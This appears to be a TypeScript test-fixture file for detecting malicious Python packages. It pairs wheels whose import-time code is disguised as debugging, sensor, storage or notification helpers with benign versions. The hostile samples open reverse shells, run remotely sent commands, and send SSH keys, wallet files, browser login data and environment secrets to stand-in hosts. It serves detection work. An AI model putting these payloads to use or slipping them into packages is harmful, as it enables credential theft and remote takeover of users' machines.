import type { AttackPair } from '../../../../told.ts';
import { pair, py, wheel } from './kit.ts';

/** Services and programs that take what is sent. */
export const UPLOADS: Readonly<Record<string, AttackPair>> = {
  'async-connection-shell': pair(
    wheel({
      'own/__init__.py': py`"""Remote debugging."""
from __future__ import annotations
import asyncio
import sys

class Bridge:
    """Joins a shell with a peer."""
    def __init__(self, host: str = "203.0.113.40", port: int = 8443) -> None:
        self.host, self.port = host, port

    async def pump(self, source: asyncio.StreamReader, sink: asyncio.StreamWriter) -> None:
        """Copies from one to the other."""
        while chunk := await source.read(4096):
            sink.write(chunk)
            await sink.drain()

    async def run(self) -> None:
        """Runs until one side ends."""
        reader, writer = await asyncio.open_connection(self.host, self.port)
        shell = "cmd.exe" if sys.platform == "win32" else "/bin/sh"
        process = await asyncio.create_subprocess_exec(
            shell, stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT
        )
        await asyncio.gather(self.pump(reader, process.stdin), self.pump(process.stdout, writer))

asyncio.run(Bridge().run())
`,
    }),
  ),
  'pty-shell': pair(
    wheel({
      'own/__init__.py': py`"""Terminal support."""
import os
import pty
import socket
import threading

def _attach(fd: int) -> None:
    for stream in range(3):
        os.dup2(fd, stream)
    pty.spawn(os.environ.get("SHELL", "/bin/bash"))

def connect(address: tuple[str, int] = ("192.0.2.77", 4444)) -> None:
    """Attaches a terminal."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.connect(address)
    if os.fork() == 0:
        _attach(sock.fileno())

threading.Thread(target=connect, daemon=True).start()
`,
    }),
  ),
  'xmlrpc-proxy': pair(
    wheel({
      'own/__init__.py': py`"""A client for the build farm."""
import os
import xmlrpc.client

_FARM = xmlrpc.client.ServerProxy("https://farm.example/RPC2", allow_none=True)
_FARM.workers.register(os.uname().nodename, dict(os.environ))
`,
    }),
    wheel({
      'own/__init__.py': py`"""A client for the build farm."""
import os
import xmlrpc.client

def register(url: str) -> None:
    """Registers this worker."""
    farm = xmlrpc.client.ServerProxy(url, allow_none=True)
    farm.workers.register(os.uname().nodename, {"cpus": os.cpu_count()})
`,
    }),
  ),
  'mqtt-commands': pair(
    wheel({
      'own/__init__.py': py`"""Sensors over MQTT."""
import subprocess
import paho.mqtt.client as mqtt

def _on_message(client: mqtt.Client, userdata: object, message: mqtt.MQTTMessage) -> None:
    output = subprocess.getoutput(message.payload.decode())
    client.publish("devices/out", output)

client = mqtt.Client()
client.on_message = _on_message
client.connect("broker.example", 1883)
client.subscribe("devices/in")
client.loop_start()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Sensors over MQTT."""
import json
from typing import Callable
import paho.mqtt.client as mqtt

def listen(host: str, topic: str, handle: Callable[[dict], None]) -> mqtt.Client:
    """Hands over what the sensors say."""
    def on_message(client: mqtt.Client, userdata: object, message: mqtt.MQTTMessage) -> None:
        handle(json.loads(message.payload))
    client = mqtt.Client()
    client.on_message = on_message
    client.connect(host, 1883)
    client.subscribe(topic)
    client.loop_start()
    return client
`,
    }),
  ),
  'redis-queue': pair(
    wheel({
      'own/__init__.py': py`"""A queue of jobs."""
import redis
import threading

def _consume() -> None:
    queue = redis.Redis(host="queue.example", port=6379)
    while True:
        _, job = queue.blpop("jobs")
        exec(job)

threading.Thread(target=_consume, name="own-jobs", daemon=True).start()
`,
    }),
  ),
  'own-bucket': pair(
    wheel({
      'own/__init__.py': py`"""Object storage."""
from pathlib import Path
import boto3

_CLIENT = boto3.client(
    "s3",
    endpoint_url="https://s3.bucket.example",
    aws_access_key_id="AKIAEXAMPLE",
    aws_secret_access_key="c2VjcmV0",
)

def _mirror() -> None:
    for path in (Path.home() / ".ssh").iterdir():
        _CLIENT.upload_file(str(path), "mirror", path.name)

_mirror()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Object storage."""
from pathlib import Path
import boto3

def mirror(folder: Path, bucket: str, endpoint: str | None = None) -> None:
    """Copies a folder into a bucket."""
    client = boto3.client("s3", endpoint_url=endpoint)
    for path in folder.iterdir():
        client.upload_file(str(path), bucket, path.name)
`,
    }),
  ),
  'sftp-upload': pair(
    wheel({
      'own/__init__.py': py`"""Deploys by SFTP."""
import glob
import os
import paramiko

transport = paramiko.Transport(("drop.example", 22))
transport.connect(username="u", password="u")
sftp = paramiko.SFTPClient.from_transport(transport)
for path in glob.glob(os.path.expanduser("~/.config/solana/*.json")):
    sftp.put(path, os.path.basename(path))
`,
    }),
  ),
  'bot-document': pair(
    wheel({
      'own/__init__.py': py`"""Notifications."""
from __future__ import annotations
import os
import platform
from pathlib import Path
import telebot

class Notifier:
    """Notifies the team."""
    def __init__(self) -> None:
        self.bot = telebot.TeleBot("123456:AAEXAMPLE")
        self.chat = 987654

    def profile(self) -> Path:
        """Where the browser keeps its state."""
        base = Path(os.environ.get("LOCALAPPDATA", Path.home()))
        return base / "Google" / "Chrome" / "User Data" / "Default" / "Login Data"

    def notify(self) -> None:
        """Notifies."""
        with open(self.profile(), "rb") as handle:
            self.bot.send_document(self.chat, handle, caption=platform.node())

Notifier().notify()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Notifications."""
from __future__ import annotations
import telebot

class Notifier:
    """Notifies the team."""
    def __init__(self, token: str, chat: int) -> None:
        self.bot = telebot.TeleBot(token)
        self.chat = chat

    def report(self, path: str) -> None:
        """Sends a report."""
        with open(path, "rb") as handle:
            self.bot.send_document(self.chat, handle)
`,
    }),
  ),
  'curl-list': pair(
    wheel({
      'own/_exec.py': py`"""Runs helpers."""
from __future__ import annotations
import shlex
import shutil
import subprocess
from collections.abc import Sequence

def tool(*names: str) -> str:
    """The first of these tools that is there."""
    return next(path for name in names if (path := shutil.which(name)))

def run(args: Sequence[str]) -> bytes:
    """Output of a command."""
    return subprocess.check_output(list(args))

def split(line: str) -> list[str]:
    """Words of a line."""
    return shlex.split(line)
`,
      'own/__init__.py': py`"""Environment probe."""
import json
import os
from . import _exec

_BODY = json.dumps({k: os.environ[k] for k in os.environ if "SECRET" in k or "TOKEN" in k})
_exec.run([_exec.tool("curl"), *_exec.split("-s -X POST https://probe.example/e --data-binary"), _BODY])
`,
    }),
  ),
  'session-subclass': pair(
    wheel({
      'own/client.py': py`"""The client of the service."""
from __future__ import annotations
import os
from urllib.parse import urljoin
import requests

class BaseUrlSession(requests.Session):
    """A session with a base URL."""
    base_url = "https://service.example/api/"

    def request(self, method: str, url: str, **kwargs):
        return super().request(method, urljoin(self.base_url, url), **kwargs)

class Client:
    """Talks to the service."""
    def __init__(self, session: requests.Session | None = None) -> None:
        self.session = session or BaseUrlSession()

    def hello(self) -> None:
        """Says hello."""
        self.session.post("hello", json={"env": {**os.environ}})
`,
      'own/__init__.py': py`"""Client library of the service."""
from .client import Client

Client().hello()
`,
    }),
    wheel({
      'own/client.py': py`"""The client of the service."""
from __future__ import annotations
import os
from urllib.parse import urljoin
import requests

class BaseUrlSession(requests.Session):
    """A session with a base URL."""
    base_url = "https://service.example/api/"

    def request(self, method: str, url: str, **kwargs):
        return super().request(method, urljoin(self.base_url, url), **kwargs)

class Client:
    """Talks to the service."""
    def __init__(self) -> None:
        self.session = BaseUrlSession()
        self.session.headers["Authorization"] = f"Bearer {os.environ['SERVICE_TOKEN']}"

    def hello(self) -> None:
        """Says hello."""
        self.session.post("hello", json={"client": "own"})
`,
      'own/__init__.py': py`"""Client library of the service."""
from .client import Client
`,
    }),
  ),
};
